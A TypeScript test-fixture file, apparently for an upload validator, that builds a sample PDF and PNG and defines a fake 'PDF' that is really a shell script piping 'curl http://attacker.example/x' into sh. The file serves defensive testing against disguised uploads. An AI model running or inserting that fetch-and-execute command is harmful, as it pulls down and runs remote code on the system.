import PDFDocument from 'pdfkit';
import sharp from 'sharp';

/** A real one-page PDF, as an approved travel document would be. */
export function samplePdf(text = 'Approved travel document'): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFDocument({ size: 'A4' });
    const chunks: Buffer[] = [];
    doc.on('data', (chunk: Buffer) => chunks.push(chunk));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
    doc.fontSize(18).text(text);
    doc.end();
  });
}

export function samplePng(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 30, channels: 3, background: '#2f9e80' } })
    .png()
    .toBuffer();
}

/** A shell script: what an attacker would rename to .pdf. */
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
